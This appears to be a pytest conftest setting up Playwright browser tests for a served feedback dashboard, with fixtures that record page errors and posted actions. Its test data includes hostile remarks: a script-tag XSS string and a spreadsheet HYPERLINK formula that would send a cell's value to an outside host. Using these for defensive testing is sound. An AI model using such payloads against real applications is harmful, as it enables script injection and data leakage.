"""A dashboard that is served, and people who look at it in Chromium."""

from __future__ import annotations

import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import parse_qs, urlsplit

import pytest
import uvicorn
from dashboards import Dashboard
from playwright.sync_api import Browser, BrowserContext, Page, Request, Response, StorageState, expect
from sharing import make_once

import heedful
from heedful.simulate import traffic
from heedful.testing import ManualClock, WordEmbedder

PROJECT = "default"
UNTIL = datetime(2026, 3, 13, 17, tzinfo=UTC)
SESSIONS = 40
HOSTILE = (
    "<script>alert(1)</script> your bot is broken",
    '=HYPERLINK("http://example.com/?x="&A1,"Click here for your refund")',
    "התשובה לא נכונה, ההחזר עדיין לא הגיע אחרי 12 ימים",
    "لا تزال أموالي غير موجودة 😡😡😡 refund???",
    "\u202etxet siht daer ot yrt\u202c 👩🏽‍💻👍🏿🇵🇹",
)
"""What a page or a table that shows remarks has to bear."""

WATCH = """
window.shifted = 0;
new PerformanceObserver((seen) => {
  for (const each of seen.getEntries()) if (!each.hadRecentInput) window.shifted += each.value;
}).observe({ type: "layout-shift", buffered: true });
"""
"""Adds up by how much a page jumps."""


@dataclass
class Visit:
    """A page of the dashboard, what went wrong on it, and what was done there."""

    page: Page
    url: str
    problems: list[str] = field(default_factory=list)
    posted: set[str] = field(default_factory=set)
    refused: set[int] = field(default_factory=set)
    """Statuses that are meant to come."""

    def __post_init__(self) -> None:
        self.page.on("pageerror", lambda error: self.problems.append(str(error)))
        self.page.on("dialog", lambda dialog: self.problems.append(f"a dialog: {dialog.message}"))
        self.page.on("requestfailed", self._failed)
        self.page.on("response", self._answered)
        self.page.on("request", self._on_request)
        # What a server refuses is told by the response already.
        self.page.on(
            "console",
            lambda said: (
                self.problems.append(said.text) if said.type == "error" and "status of" not in said.text else None
            ),
        )

    def open(self, path: str) -> Page:
        """Goes to an address below the project, and waits until all of it is there."""
        self.page.goto(f"{self.url}/p/{PROJECT}/{path}")
        self.settle()
        return self.page

    def settle(self) -> None:
        """Waits for the parts that come later."""
        expect(self.page.locator("[aria-busy]")).to_have_count(0)

    def expect_message(self, words: str) -> None:
        """What the last action did is said."""
        expect(self.page.locator(".flash")).to_contain_text(words)

    def undo(self) -> None:
        self.page.locator(".flash").get_by_role("button", name="Undo").click()

    def _failed(self, request: Request) -> None:
        # What is left before it has come is not broken.
        if request.failure != "net::ERR_ABORTED":
            self.problems.append(f"{request.url}: {request.failure}")

    def _answered(self, response: Response) -> None:
        if response.status >= 400 and response.status not in self.refused:
            self.problems.append(f"{response.status} {response.url}")

    def _on_request(self, request: Request) -> None:
        name = urlsplit(request.url).path.partition("/do/")[2]
        if request.method == "POST" and name:
            fix = parse_qs(request.post_data or "").get("fix")
            self.posted.add(f"{name} {fix[0]}" if name == "review_fix" and fix else name)


@dataclass
class Served:
    """A dashboard with an address."""

    dashboard: Dashboard
    url: str
    browser: Browser
    _visits: list[Visit] = field(default_factory=list)
    _contexts: list[BrowserContext] = field(default_factory=list)
    _logins: dict[tuple[str, str], StorageState] = field(default_factory=dict)

    def stranger(self, **options: Any) -> Visit:
        """Somebody who has not logged in."""
        usual = {"viewport": {"width": 1280, "height": 800}, "reduced_motion": "reduce"}
        context = self.browser.new_context(**{**usual, **options})
        context.add_init_script(WATCH)
        self._contexts.append(context)
        visit = Visit(context.new_page(), self.url)
        self._visits.append(visit)
        return visit

    def visitor(self, name: str = "Ada", key: str | None = None, **options: Any) -> Visit:
        """Somebody who has; with the key for everything, if none is given."""
        who = (key or self.dashboard.admin, name)
        if who in self._logins:
            return self.stranger(storage_state=self._logins[who], **options)
        visit = self.stranger(**options)
        context = visit.page.context
        context.request.post(f"{self.url}/login", form={"api_key": who[0], "name": name})
        self._logins[who] = context.storage_state()
        return visit

    def leave(self) -> set[str]:
        """Closes all pages, on which nothing may have gone wrong; returns what was done there."""
        visits = self._visits[:]
        for context in self._contexts:
            context.close()
        self._visits.clear()
        self._contexts.clear()
        assert [problem for visit in visits for problem in visit.problems] == []
        return {name for visit in visits for name in visit.posted}


@contextmanager
def serving(path: Path, clock: ManualClock, browser: Browser) -> Iterator[Served]:
    """Serves the dashboard of a store until the block ends."""
    dashboard = Dashboard(path, clock)
    listening = socket.create_server(("127.0.0.1", 0), backlog=128)
    server = uvicorn.Server(uvicorn.Config(dashboard.app, log_config=None, access_log=False, lifespan="on"))
    thread = threading.Thread(target=lambda: server.run(sockets=[listening]), name="dashboard")
    thread.start()
    try:
        yield Served(dashboard, f"http://127.0.0.1:{listening.getsockname()[1]}", browser)
    finally:
        server.should_exit = True
        thread.join()
        listening.close()
        dashboard.close()


@pytest.fixture(scope="session")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with a little of everything, hostile words among it."""

    def fill(folder: Path) -> None:
        file = folder / "desk.db"
        traffic.fill(file, project=PROJECT, days=14, sessions=SESSIONS, until=UNTIL, embedding=WordEmbedder())
        with heedful.open(file, clock=lambda: UNTIL, embedding=WordEmbedder(), worker=False) as store:
            for session, words in zip(store.sessions.list(where={"channel": "web"}).items, HOSTILE, strict=False):
                answer = store.sessions.entries(session.session_id).items[0]
                store.sessions.add_feedback(session.session_id, answer.qa_id, words, 1)

    return make_once(tmp_path_factory, "desk", fill) / "desk.db"


@pytest.fixture(scope="module")
def looked_at(desk: Path, browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A dashboard with a little of everything, on which nothing is changed."""
    path = tmp_path_factory.mktemp("looked-at") / "desk.db"
    shutil.copy(desk, path)
    with serving(path, ManualClock(UNTIL), browser) as served:
        yield served


@pytest.fixture(scope="module")
def bare(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A dashboard without anything."""
    with serving(tmp_path_factory.mktemp("bare") / "bare.db", ManualClock(UNTIL), browser) as served:
        yield served


@pytest.fixture
def served(
    tmp_path: Path, browser: Browser, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> Iterator[Served]:
    """A dashboard of a test's own. The test does there what `does` says, and nothing else."""
    monkeypatch.chdir(tmp_path)
    with serving(tmp_path / "own.db", ManualClock(), browser) as made:
        yield made
        assert made.leave() == getattr(request.function, "does", set())


Test = TypeVar("Test", bound=Callable[..., None])

TESTED: set[str] = set()
"""All actions that some test does."""


def does(*names: str) -> Callable[[Test], Test]:
    """Says which actions a test does by clicking; of the fixes, each by its name: "review_fix block"."""
    TESTED.update(names)

    def marked(test: Test) -> Test:
        test.does = set(names)  # type: ignore[attr-defined]
        return test

    return marked
